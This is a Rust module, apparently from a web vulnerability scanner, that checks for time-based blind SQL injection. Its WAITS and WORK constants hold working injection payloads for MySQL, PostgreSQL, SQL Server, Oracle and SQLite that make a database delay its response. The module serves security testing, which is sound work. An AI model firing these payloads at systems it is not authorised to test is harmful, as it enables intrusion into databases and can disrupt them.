//! SQL injection by time: the database waits as long as it is told.
//!
//! One payload for each product, written for a number and for a string at once: outside of quotes the
//! first wait is carried out and a comment hides the others, inside the one after the closing quote is.
//! `SQLite` cannot wait; it is given work that grows with a number, and is measured first.
//!
//! Costs at a clean point: 6 requests at medium strength, 4 at low, 11 at high.

use std::time::Duration;

use super::statement::sql_by_design;
use crate::scan::probe::Checking;
use crate::scan::probe::InsertionPoint;
use crate::scan::probe::Outcome;
use crate::scan::probe::PointCheck;
use crate::scan::probe::Probe;
use crate::scan::probe::ProbeStop;
use crate::scan::probe::Proof;
use crate::scan::probe::Strength;

/// See the module.
pub(crate) struct SqliTime;

/// Product and payload; `«v»` is the value, `«s»` the seconds. Waits stand in subqueries without a
/// reference to the row, so that they are carried out once and not for each row.
const WAITS: [(&str, &str); 10] = [
    (
        "MySQL",
        "«v» AND (SELECT 1 FROM (SELECT SLEEP(«s»))w)=1/*'XOR(SELECT 1 FROM (SELECT SLEEP(«s»))w)XOR'\"\
         XOR(SELECT 1 FROM (SELECT SLEEP(«s»))w)XOR\"*/",
    ),
    (
        "PostgreSQL",
        "«v» AND (SELECT 1 FROM pg_sleep(«s»))=1/*'||(SELECT '' FROM pg_sleep(«s»))||'*/",
    ),
    ("SQL Server", "«v»';WAITFOR DELAY '0:0:«s»'-- -"),
    ("SQL Server", "«v»;WAITFOR DELAY '0:0:«s»'-- -"),
    (
        "Oracle",
        "«v» AND (SELECT DBMS_PIPE.RECEIVE_MESSAGE(CHR(97),«s») FROM DUAL)=1/*'||(SELECT \
         DBMS_PIPE.RECEIVE_MESSAGE(CHR(97),«s») FROM DUAL)||'*/",
    ),
    ("SQL Server", "«v»');WAITFOR DELAY '0:0:«s»'-- -"),
    ("SQL Server", "«v»);WAITFOR DELAY '0:0:«s»'-- -"),
    ("PostgreSQL", "«v»';SELECT pg_sleep(«s»)-- -"),
    ("PostgreSQL", "«v»,(SELECT 1 FROM pg_sleep(«s»))"),
    ("MySQL", "«v»,(SELECT 1 FROM (SELECT SLEEP(«s»))w)"),
];

/// Work for `SQLite` (<https://sqlite.org/lang_with.html>): `«n»` rows are made and counted, no memory is
/// taken.
const WORK: &str = "«v» AND («w»count(*) FROM w)>0/*'||(«w»substr('',count(*)) FROM w)||'\"||\
                    («w»substr('',count(*)) FROM w)||\"*/";

/// Stands for `«w»`.
const ROWS: &str =
    "WITH RECURSIVE w(x) AS (SELECT 1 UNION ALL SELECT x+1 FROM w LIMIT «n») SELECT ";

/// Rows that are made first, about half a second's work, and how often four times as many are tried.
const FIRST_ROWS: u64 = 2_000_000;
const GROWTHS: usize = 3;

/// Later by this much is worth a measurement, and enough of one.
const WORTH_IT: Duration = Duration::from_millis(100);
const ENOUGH: Duration = Duration::from_millis(800);

impl PointCheck for SqliTime {
    fn id(&self) -> &'static str {
        "sqli-time"
    }

    fn root_cause(&self) -> &'static str {
        "sql-injection"
    }

    fn is_blind(&self) -> bool {
        true
    }

    fn applies(&self, _point: &InsertionPoint) -> bool {
        true
    }

    fn run<'a>(&'a self, probe: &'a mut Probe) -> Checking<'a> {
        Box::pin(check(probe))
    }
}

async fn check(probe: &mut Probe) -> Result<Outcome, ProbeStop> {
    if !probe.sender().is_timed() {
        return Ok(Outcome::Skipped("nothing is told by time in this scan".to_owned()));
    }
    let value = probe.point().value.clone();
    if let Some(reason) = sql_by_design(&value) {
        return Ok(Outcome::Skipped(reason));
    }
    let waits = match probe.strength() {
        Strength::Low => 4,
        Strength::Medium => 5,
        Strength::High => WAITS.len(),
    };
    for (product, wait) in &WAITS[..waits] {
        let payload = |time: Duration| {
            wait.replace("«v»", &value).replace("«s»", &time.as_secs().to_string())
        };
        if let Some(proof) = probe.waits_as_told(&payload).await? {
            return Ok(found(proof, product));
        }
    }
    if probe.strength() == Strength::Low {
        return Ok(Outcome::Clean);
    }
    Ok(match works_as_told(probe, &value).await? {
        Some(proof) => found(proof, "SQLite, counting rows"),
        None => Outcome::Clean,
    })
}

fn found(mut proof: Proof, product: &str) -> Outcome {
    proof.detail = format!("the database ({product}) {}", proof.detail);
    Outcome::Found(Box::new(proof))
}

/// Measures how many rows take a second, then asks for seconds' worth of them.
async fn works_as_told(probe: &mut Probe, value: &str) -> Result<Option<Proof>, ProbeStop> {
    let payload = |rows: u64| {
        WORK.replace("«w»", ROWS).replace("«v»", value).replace("«n»", &rows.max(1).to_string())
    };
    let mut rows = FIRST_ROWS;
    if wait(probe, &payload(rows)).await? < WORTH_IT {
        return Ok(None);
    }
    probe.sender().stand_alone().await;
    let nothing = wait(probe, &payload(1)).await?;
    let mut late = wait(probe, &payload(rows)).await?.saturating_sub(nothing);
    for _ in 0..GROWTHS {
        if late < WORTH_IT {
            break;
        }
        if late < ENOUGH {
            rows *= 4;
            late = wait(probe, &payload(rows)).await?.saturating_sub(nothing);
        }
    }
    let mut proof = None;
    if late >= ENOUGH {
        let each_second = rows as f64 / late.as_secs_f64();
        #[expect(
            clippy::cast_possible_truncation,
            clippy::cast_sign_loss,
            reason = "a number of rows; the cast saturates"
        )]
        let seconds_of = |time: Duration| payload((each_second * time.as_secs_f64()) as u64);
        proof = probe.waits_as_told(&seconds_of).await?;
    }
    probe.sender().rejoin();
    Ok(proof)
}

async fn wait(probe: &mut Probe, payload: &str) -> Result<Duration, ProbeStop> {
    Ok(probe.fire(payload).await?.exchange.timings.wait)
}
